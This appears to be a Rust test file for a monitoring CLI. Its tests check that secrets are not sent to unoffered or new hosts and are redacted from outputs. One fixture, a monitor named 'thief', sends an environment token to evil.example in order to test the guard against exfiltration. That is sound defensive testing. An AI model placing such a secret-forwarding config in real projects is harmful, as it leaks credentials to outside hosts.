//! What monitors may name of the machine's secrets, and where these may go: the program as it is typed.

#![expect(clippy::expect_used, reason = "a test says what it expects by unwrapping it")]

#[expect(dead_code, reason = "each test program uses its part of it")]
mod support;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::process::{Child, Command, Output, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use serde_json::Value;
use support::{Api, Repository};

fn run(repository: &Repository, args: &[&str], variables: &[(&str, &str)]) -> (Option<i32>, String, String) {
    let mut command = repository.command(args);
    let Output { status, stdout, stderr } =
        command.envs(variables.iter().copied()).output().expect("it runs");
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).expect("UTF-8");
    (status.code(), text(stdout), text(stderr))
}

fn with_header(api: &Api, id: &str, value: &str) -> String {
    format!("{}headers: {{ x-token: '{value}' }}\n", api.monitor(id, "/shop"))
}

// P10, trap 18: a repository cannot take what the machine did not offer.
#[test]
fn a_name_that_is_not_offered_is_a_fault_of_its_monitor_and_is_not_sent() {
    let api = Api::start();
    let repository =
        Repository::new(&[("monitors/shop.yaml", &with_header(&api, "shop", "${env:SHOP_TOKEN}"))]);
    run(&repository, &["sync", "--yes"], &[]);
    let check = |variables: &[(&str, &str)]| {
        let (_, stdout, _) = run(&repository, &["check", "--all", "--format", "json"], variables);
        let report: Value = serde_json::from_str(&stdout).expect("JSON");
        let monitor = &report["monitors"][0];
        (monitor["verdict"].clone(), monitor["faults"][0]["actual"].clone())
    };
    let token = ("SHOP_TOKEN", "hunter2-value");
    assert_eq!(check(&[token]), ("pass".into(), Value::Null));
    assert_eq!(check(&[token, ("MONITORCTL_SECRETS", "OTHER, SHOP_*")]), ("pass".into(), Value::Null));
    let refused = "${env:SHOP_TOKEN} is not offered by this machine: add it to MONITORCTL_SECRETS";
    assert_eq!(check(&[token, ("MONITORCTL_SECRETS", "OTHER")]), ("fail".into(), refused.into()));
    let (code, _, stderr) = run(&repository, &["check"], &[("MONITORCTL_SECRETS", "a b")]);
    assert_eq!(code, Some(2), "{stderr}");
    // A file that was never validated, too: the machine's own are never filled in.
    repository.write("monitors/shop.yaml", &with_header(&api, "shop", "${env:AWS_SECRET_ACCESS_KEY}"));
    let (code, stdout, _) = run(&repository, &["validate", "--format", "short"], &[]);
    assert_eq!(code, Some(3));
    assert!(stdout.contains("error[reserved_secret]"), "{stdout}");
    let (code, ..) = run(&repository, &["sync", "--yes"], &[]);
    assert_eq!(code, Some(3));
}

// Trap 18
#[test]
fn a_review_sends_no_secret_unless_it_is_asked_to() {
    let api = Api::start();
    let repository =
        Repository::new(&[("monitors/shop.yaml", &with_header(&api, "shop", "${env:SHOP_TOKEN}"))]);
    let token = [("SHOP_TOKEN", "hunter2-value")];
    let (code, stdout, stderr) = run(&repository, &["diff", "--probe"], &token);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(stdout.contains("not probed: needs ${env:SHOP_TOKEN}; pass --secrets to resolve it"), "{stdout}");
    let (_, stdout, _) = run(&repository, &["diff", "--probe", "--format", "json"], &token);
    let plan: Value = serde_json::from_str(&stdout).expect("JSON");
    assert_eq!(plan["probed"][0]["needs_secrets"][0], "${env:SHOP_TOKEN}");
    let (_, stdout, _) = run(&repository, &["diff", "--probe", "--secrets"], &token);
    assert!(stdout.contains("none of 1 added and changed monitor would be DOWN now"), "{stdout}");
}

// Trap 18
#[test]
fn a_secret_that_would_go_to_a_new_host_is_refused_shown_and_written_down() {
    let api = Api::start();
    let repository =
        Repository::new(&[("monitors/shop.yaml", &with_header(&api, "shop", "${env:SHOP_TOKEN}"))]);
    // The first sync of an owner is not asked.
    assert_eq!(run(&repository, &["sync", "--yes"], &[]).0, Some(0));
    let thief = "id: thief\nurl: https://evil.example/\nheaders: { y: '${env:SHOP_TOKEN}' }\n";
    repository.write("monitors/thief.yaml", thief);
    let way = "${env:SHOP_TOKEN} goes to evil.example";
    for format in ["text", "markdown", "github"] {
        let (code, stdout, _) = run(&repository, &["diff", "--format", format], &[]);
        assert_eq!(code, Some(5), "{stdout}");
        assert!(stdout.contains("secret to a new host"), "{stdout}");
        // In Markdown the reference stands in pieces that nothing interprets.
        assert!(format == "markdown" || stdout.contains(way), "{stdout}");
    }
    let (_, stdout, _) = run(&repository, &["diff", "--format", "json"], &[]);
    let plan: Value = serde_json::from_str(&stdout).expect("JSON");
    assert_eq!(plan["summary"]["secret_hosts"], 1);
    assert_eq!(plan["changes"][0]["secret_hosts"][0]["host"], "evil.example");
    assert_eq!(plan["guard"]["violations"][0]["code"], "secret_hosts");
    let command = plan["guard"]["unblock"].as_str().expect("a command");
    assert!(command.contains("--allow-secret-host 1 --expect-plan sha256:"), "{command}");
    assert_eq!(run(&repository, &["sync", "--yes"], &[]).0, Some(5));
    let words: Vec<_> = command.split(' ').skip(1).chain(["--yes"]).collect();
    let (code, stdout, stderr) = run(&repository, &words, &[]);
    assert_eq!(code, Some(0), "{stdout}{stderr}");
    assert!(stdout.contains("with --allow-secret-host 1"), "{stdout}");
    assert_eq!(run(&repository, &["diff", "--exit-code"], &[]).0, Some(0));
}

/// A server that answers each request with 503 and this text, whatever it is asked.
fn saying(text: &'static str) -> String {
    let server = TcpListener::bind("127.0.0.1:0").expect("a port");
    let url = format!("http://{}/", server.local_addr().expect("an address"));
    thread::spawn(move || {
        for mut stream in server.incoming().flatten() {
            let mut head = [0; 4096];
            let _read = stream.read(&mut head);
            let length = text.len();
            let answer =
                format!("HTTP/1.1 503 No\r\nx-said: {text}\r\ncontent-length: {length}\r\n\r\n{text}");
            let _written = stream.write_all(answer.as_bytes());
        }
    });
    url
}

/// Everything that a run and what follows it leaves for people and programs.
fn everything_said(repository: &Repository, variables: &[(&str, &str)]) -> String {
    let mut said = Vec::new();
    for args in [
        vec!["check", "--all"],
        vec!["check", "--all", "--format", "json"],
        vec!["status", "--format", "json"],
        vec!["explain", "shop"],
        vec!["diff", "--probe", "--secrets", "--format", "json"],
        vec!["check", "--all", "--log", "json"],
    ] {
        let (_, stdout, stderr) = run(repository, &args, variables);
        said.push(format!("{args:?}\n{stdout}\n{stderr}"));
    }
    said.push(repository.read(".monitorctl/alerts.jsonl"));
    let store = std::fs::read(repository.path(".monitorctl/store.db")).expect("the store");
    said.push(String::from_utf8_lossy(&store).into_owned());
    said.join("\n")
}

// P10: an endpoint that echoes a secret in another notation, or a part of it, is not quoted.
#[test]
fn what_was_sent_as_a_secret_is_in_nothing_that_anybody_reads() {
    let token = [("SHOP_TOKEN", "s3cr3t-Token-of-forty-characters-abcdef")];
    for echoed in [
        "s3cr3t-Token-of-forty-characters-abcdef",
        "czNjcjN0LVRva2VuLW9mLWZvcnR5LWNoYXJhY3RlcnMtYWJjZGVm",
        "733363723374 2d546f6b656e2d6f662d666f727479",
        "s3cr3t%252DToken%252Dof%252Dforty",
        "&#115;&#51;&#99;&#114;&#51;&#116;-Token-of-forty",
        "fedcba-sretcarahc-ytrof-fo-nekoT-t3rc3s",
        "s3cr3t-Token-of",
    ] {
        let url = saying(echoed);
        let monitor = format!(
            "id: shop\nurl: {url}\nheaders: {{ x-token: '${{env:SHOP_TOKEN}}' }}\nretry: {{ attempts: 0 }}\n\
             alert: {{ failures: 1 }}\nexpect:\n  body: {{ contains: fine }}\n  json: [{{ path: $.a, equals: 1 }}]\n  \
             headers: {{ x-said: {{ equals: fine }} }}\n"
        );
        let repository = Repository::new(&[("monitors/shop.yaml", &monitor)]);
        let (code, stdout, stderr) = run(&repository, &["sync", "--yes"], &[]);
        assert_eq!(code, Some(0), "{stdout}{stderr}");
        let said = everything_said(&repository, &token);
        assert!(said.contains("HTTP 503, expected"), "{said}");
        assert!(said.contains("${env:SHOP_TOKEN}"), "{said}");
        assert!(!said.contains(echoed), "{echoed} is shown: {said}");
    }
}

// Trap 34
#[test]
fn a_short_secret_leaves_the_words_of_an_alert_alone_and_the_run_says_so() {
    let url = saying("503: 5 of 5 workers");
    let monitor = format!(
        "id: shop\nurl: {url}\nheaders: {{ x-id: '${{env:PID}}' }}\nretry: {{ attempts: 0 }}\n\
         alert: {{ failures: 1 }}\nexpect: {{ body: {{ contains: fine }} }}\n"
    );
    let repository = Repository::new(&[("monitors/shop.yaml", &monitor)]);
    run(&repository, &["sync", "--yes"], &[]);
    let (code, stdout, _) = run(&repository, &["check", "--all", "--format", "json"], &[("PID", "5")]);
    assert_eq!(code, Some(0), "nothing is left to be done");
    let report: Value = serde_json::from_str(&stdout).expect("JSON");
    let problem = report["problems"][0].as_str().unwrap_or_default();
    assert!(problem.starts_with("${env:PID} has a value of fewer than 4 characters"), "{report}");
    let alert = &repository.alerts()[0];
    assert_eq!(alert["headline"], "CRITICAL DOWN shop: HTTP 503, expected 2xx");
    assert!(alert.to_string().contains("503: 5 of 5 workers"), "{alert}");
}

/// A process that waits for a service which accepts connections and never answers.
fn waiting(repository: &Repository, deadline: &str) -> Child {
    let server = TcpListener::bind("127.0.0.1:0").expect("a port");
    let endpoint = format!("http://{}", server.local_addr().expect("an address"));
    thread::spawn(move || {
        let held: Vec<_> = server.incoming().flatten().collect();
        drop(held);
    });
    let mut command = repository.command(&["check", "--all", "--deadline", deadline]);
    command
        .env("AWS_ENDPOINT_URL", endpoint)
        .env("AWS_REGION", "eu-central-1")
        .env("AWS_ACCESS_KEY_ID", "test")
        .env("AWS_SECRET_ACCESS_KEY", "test")
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    command.spawn().expect("it runs")
}

#[test]
fn a_service_that_keeps_a_secret_to_itself_holds_up_neither_the_end_of_a_run_nor_a_signal() {
    let api = Api::start();
    let repository = Repository::new(&[("monitors/shop.yaml", &with_header(&api, "shop", "${ssm:/token}"))]);
    assert_eq!(run(&repository, &["sync", "--yes"], &[]).0, Some(0));
    let begun = Instant::now();
    let ended = waiting(&repository, "2s").wait().expect("it ends");
    assert!(begun.elapsed() < Duration::from_secs(30), "{:?}", begun.elapsed());
    assert!(ended.code().is_some(), "{ended}");
    let mut process = waiting(&repository, "60s");
    // It may not have come to the secret yet: a signal ends it wherever it is.
    thread::sleep(Duration::from_secs(2));
    let begun = Instant::now();
    let id = process.id().to_string();
    let signalled = Command::new("kill").args(["-TERM", &id]).status().expect("kill runs");
    assert!(signalled.success());
    let ended = process.wait().expect("it ends");
    assert!(begun.elapsed() < Duration::from_secs(5), "{:?}", begun.elapsed());
    assert_eq!(ended.code(), Some(143));
}
